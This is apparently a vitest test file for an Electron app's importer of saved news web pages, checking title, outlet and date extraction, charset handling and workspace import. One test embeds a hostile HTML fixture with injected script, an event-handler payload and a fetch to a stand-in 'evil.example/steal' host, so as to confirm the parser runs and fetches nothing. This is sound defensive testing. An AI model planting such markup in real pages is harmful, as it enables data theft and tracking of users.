import http from 'node:http';
import https from 'node:https';
import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { parseHtml } from '../../../../../electron/core/import/formats/html';
import { ROOT, newWorkspace, tempDir } from '../../../../helpers';

const FIXTURES = join(ROOT, 'tests/fixtures/html-news');
const pages = readdirSync(FIXTURES).filter((d) => !d.includes('.'));

interface Expected {
  title: string;
  siteName: string | null;
  publishedTime: string | null;
}

/**
 * Where the title a careful reader takes differs from the expected file (Readability's output):
 * no site name at the end ("- BBC News", "| IAB", "[LWN.net]"), no author after the headline,
 * and The Verge's own headline rather than its <title>. html-metadata.test.ts reads all pages by hand.
 */
const TITLE_DIFFERS: Record<string, string> = {
  'bbc-1': "Obama admits US gun laws are his 'biggest frustration'",
  breitbart: "'Neutral' Snopes Fact-Checker David Emery: 'Are There Any Un-Angry Trump Supporters?'",
  'guardian-1': "'What is the sea telling us?': Māori tribes fearful over whale strandings",
  'iab-1': 'Getting LEAN with Digital Ad UX',
  'lwn-1': 'LWN.net Weekly Edition for March 26, 2015',
  theverge: 'Apple’s Vision Pro is the Retina display moment for headsets',
};

async function parse(path: string) {
  const [doc] = await parseHtml({ path, name: 'source.html', size: 0, read: async () => readFileSync(path) });
  return doc!;
}

afterEach(() => vi.restoreAllMocks());

describe('importing saved web pages', () => {
  it('has all 25 real pages to test on', () => {
    expect(pages).toHaveLength(25);
  });

  it.each(pages)('%s: title, outlet and date as a careful reader takes them, and the article text', async (page) => {
    const expected = JSON.parse(readFileSync(join(FIXTURES, page, 'expected-metadata.json'), 'utf8')) as Expected;
    const doc = await parse(join(FIXTURES, page, 'source.html'));
    expect(doc.title).toBe(TITLE_DIFFERS[page] ?? expected.title);
    if (expected.siteName) expect(doc.outlet).toBe(expected.siteName);
    if (expected.publishedTime) expect(doc.published).toBe(expected.publishedTime.slice(0, 10));
    expect(doc.format).toBe('html');
    expect(doc.body.length).toBeGreaterThan(500);
    expect(doc.body).not.toMatch(/<\/?(script|div|p|span)\b|function\s*\(|window\.|document\.write/);
    expect(Buffer.from(doc.original!.content).equals(readFileSync(join(FIXTURES, page, 'source.html')))).toBe(true);
  });

  it('keeps paragraphs apart and drops the navigation', async () => {
    const doc = await parse(join(FIXTURES, 'guardian-1', 'source.html'));
    expect(doc.body.startsWith('Whale whisperer Hori Parata was just seven years old')).toBe(true);
    expect(doc.body.split('\n\n').length).toBeGreaterThan(10);
    expect(doc.author).toBe('Eleanor Ainge Roy');
    expect(doc.body).not.toContain('Skip to main content');
  });

  it('runs nothing and fetches nothing from a hostile page', async () => {
    const fetchSpy = vi.spyOn(globalThis, 'fetch');
    const httpSpy = vi.spyOn(http, 'request');
    const httpsSpy = vi.spyOn(https, 'request');
    const dir = tempDir();
    const path = join(dir, 'hostile.html');
    writeFileSync(
      path,
      `<!doctype html><html><head><title>Hostile page</title>
      <meta http-equiv="refresh" content="0;url=https://evil.example/">
      <link rel="stylesheet" href="https://evil.example/a.css"><style>body{background:url(https://evil.example/bg.png)}</style>
      <script>globalThis.__pwned = true; fetch('https://evil.example/steal')</script></head>
      <body onload="globalThis.__pwned = true">
      <article><h1>Hostile page</h1>
      <p>First paragraph of the real text, long enough to be the article. ${'It goes on. '.repeat(30)}</p>
      <p><a href="javascript:globalThis.__pwned=true">a link</a> <img src="https://evil.example/pixel.gif" srcset="https://evil.example/a.png 2x" onerror="globalThis.__pwned=true"></p>
      <iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/post"><input name="q"></form>
      <p>Second paragraph. ${'More words here. '.repeat(20)}</p></article></body></html>`,
    );
    const doc = await parse(path);
    expect((globalThis as { __pwned?: boolean }).__pwned).toBeUndefined();
    expect(fetchSpy).not.toHaveBeenCalled();
    expect(httpSpy).not.toHaveBeenCalled();
    expect(httpsSpy).not.toHaveBeenCalled();
    expect(doc.body).toContain('First paragraph of the real text');
    expect(doc.body).toContain('Second paragraph.');
    expect(doc.body).not.toMatch(/__pwned|evil\.example|fetch\(/);
  });

  it('reads a page in its declared legacy charset', async () => {
    const path = join(tempDir(), 'latin.html');
    const html = `<html><head><meta charset="iso-8859-1"><title>Caf\xe9 r\xe9sum\xe9</title></head><body><article><p>${'Le caf\xe9 de Guaid\xf3 est ouvert. '.repeat(20)}</p></article></body></html>`;
    writeFileSync(path, Buffer.from(html, 'latin1'));
    const doc = await parse(path);
    expect(doc.encoding).toBe('iso-8859-1');
    expect(doc.title).toBe('Café résumé');
    expect(doc.body).toContain('Le café de Guaidó est ouvert.');
  });

  it('imports a folder of pages through the workspace, keeping each original', async () => {
    const ws = await newWorkspace({ importPaths: [] });
    const summary = await ws.importFiles([FIXTURES]);
    const pagesIn = summary.outcomes.filter((o) => o.path.endsWith('source.html'));
    expect(pagesIn.map((o) => o.status)).toEqual(Array(25).fill('imported'));
    expect(summary.outcomes.filter((o) => o.path.endsWith('.json')).every((o) => o.reason?.startsWith('unsupported file type (.json)'))).toBe(true);
    const kept = ws.db.prepare("SELECT count(*) FROM document_sources WHERE media_type = 'text/html'").pluck().get();
    expect(kept).toBe(25);
    const guardian = ws.search.search({ query: 'title:whale' }).documents[0]!;
    expect(guardian).toMatchObject({ outlet: 'the Guardian', published: '2019-01-03', author: 'Eleanor Ainge Roy' });
    expect(ws.documents.source(guardian.id)).toEqual({ mediaType: 'text/html', text: readFileSync(join(FIXTURES, 'guardian-1/source.html'), 'utf8') });
    expect(ws.documents.source(ws.search.search({ query: 'title:license' }).documents[0]!.id)).toBeNull();
  });
});
